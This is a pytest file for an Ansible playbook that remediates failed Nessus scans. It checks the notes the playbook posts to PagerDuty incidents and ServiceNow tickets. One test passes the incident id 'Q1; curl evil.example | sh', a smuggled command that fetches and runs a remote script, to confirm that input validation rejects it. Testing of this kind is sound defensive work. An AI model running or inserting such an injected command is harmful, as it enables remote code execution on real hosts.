"""The incident timeline through remediate_private_scan.yml against the lab: a run started for a PagerDuty incident
notes each step that changes something (or leaves something for people) on it, and once it has escalated, on the
SOS ticket too; a re-run never repeats the notes of the run before; a bad incident id changes nothing."""

from __future__ import annotations

import json

import yaml

from private_branch import FAST, SPEED, power  # pylint: disable=import-error

ZONE = "ALC_Prod_WDC06_SZ"
NOTHING_HEALS = {"hung": True, "heals": {"rebootSoft": "hung", "rebootHard": "hung", "powerCycle": "hung"}}


def world(tmp_path, machine=None):
    title = "SCANS FAILED - failed nessus scans require investigation: ALC_Prod_WDC06_private_import"
    spec = {"extends": "default", "pagerduty": {"incidents": [{"incident_key": "nessus-scan-compliance", "title": title}]}}
    if machine:
        spec["classic"] = {"machines": {"prod-wdc06-infra-nessus-01": machine}}
    path = tmp_path / "world.yaml"
    path.write_text(yaml.safe_dump(spec))
    return str(path)


def heal(lab, records, **extra):
    return lab.playbook("playbooks/remediate_private_scan.yml", "-i", lab.settings["LAB_INVENTORY"],
                        extra_vars=dict(FAST, zone=ZONE, remediation_record_dir=str(records), **extra))


def records_of(records):
    return [json.loads(p.read_text()) for p in sorted(records.glob("remediation-*.json"))]


def told(record):
    """The notes the run's record says it should have told, in order."""
    return ["Nessus scan remediation, run %s (private scan %s) - %s: %s" % (record["run_id"], ZONE, e["step"], e["text"])
            for e in record["entries"] if e["kind"] in ("done", "left")]


def test_each_change_is_a_note_on_the_incident_and_a_rerun_repeats_none(lab_factory, tmp_path):
    lab = lab_factory(world(tmp_path), speed=SPEED)
    (incident,) = lab.world.pagerduty.incidents
    records = tmp_path / "records"
    proc = heal(lab, records, pagerduty_incident=incident["id"])
    assert proc.returncode == 0, proc.stdout[-3000:]
    assert power(lab) == [("prod-wdc06-infra-nessus-01", "rebootSoft")]
    (first,) = records_of(records)
    assert first["incident"] == incident["id"] and "timeline_failed" not in first
    notes = [n["content"] for n in incident["notes"]]
    assert notes == told(first) and len(notes) >= 3
    assert any("soft reboot" in n for n in notes)
    assert {n["user"]["summary"] for n in incident["notes"]} == {lab.world.pagerduty.user_email}
    posts = [c for c in lab.calls("pagerduty") if c.startswith("POST")]
    assert posts == ["POST /incidents/%s/notes" % incident["id"]] * len(notes)  # one request per note, no retry

    # the zone scans again: the re-run's notes are its own, none of the first run's is sent again
    proc = heal(lab, records, pagerduty_incident=incident["id"])
    assert proc.returncode == 0, proc.stdout[-3000:]
    second = records_of(records)[-1]
    assert [n["content"] for n in incident["notes"]] == notes + told(second)
    assert power(lab) == [("prod-wdc06-infra-nessus-01", "rebootSoft")]


def test_after_the_escalation_each_step_is_a_work_note_on_the_sos_ticket(lab_factory, tmp_path):
    lab = lab_factory(world(tmp_path, NOTHING_HEALS), speed=SPEED)
    (incident,) = lab.world.pagerduty.incidents
    records = tmp_path / "records"
    proc = heal(lab, records, pagerduty_incident=incident["id"])
    assert proc.returncode == 2, proc.stdout[-3000:]
    (record,) = records_of(records)
    (ticket,) = lab.world.servicenow.records("sc_request")
    after = record["entries"][next(i for i, e in enumerate(record["entries"])
                                   if (e["details"] or {}).get("ticket", {}).get("sys_id") == ticket["sys_id"]) + 1:]
    expected = told(dict(record, entries=after))
    assert expected and any("triggered PagerDuty" in n for n in expected)
    journal = [j["value"] for j in ticket["_journal"] if j["element"] == "work_notes"]
    assert journal == expected  # a new request's description is its first word: the work notes follow it
    assert [n["content"] for n in incident["notes"]] == told(record)  # the incident heard everything, the ticket too


def test_an_incident_the_account_does_not_know_is_warned_about_once_and_the_run_heals(lab_factory, tmp_path):
    lab = lab_factory(world(tmp_path), speed=SPEED)
    records = tmp_path / "records"
    proc = heal(lab, records, pagerduty_incident="PNOSUCH1")
    assert proc.returncode == 0, proc.stdout[-3000:]
    assert power(lab) == [("prod-wdc06-infra-nessus-01", "rebootSoft")]
    (record,) = records_of(records)
    assert list(record["timeline_failed"]) == ["pagerduty:PNOSUCH1"]
    assert "PagerDuty incident PNOSUCH1" in record["timeline_failed"]["pagerduty:PNOSUCH1"]
    assert [c for c in lab.calls("pagerduty") if c.startswith("POST")] == ["POST /incidents/PNOSUCH1/notes"]
    assert (proc.stdout + proc.stderr).count("the incident timeline: cannot tell PagerDuty incident PNOSUCH1") == 1


def test_a_malformed_incident_id_changes_nothing(lab_factory, tmp_path):
    lab = lab_factory(world(tmp_path), speed=SPEED)
    proc = heal(lab, tmp_path / "records", pagerduty_incident="Q1; curl evil.example | sh")
    assert proc.returncode == 2
    assert "pagerduty_incident must be a PagerDuty incident id" in proc.stdout
    assert [c for c in lab.calls() if not c.startswith("GET ")] == []
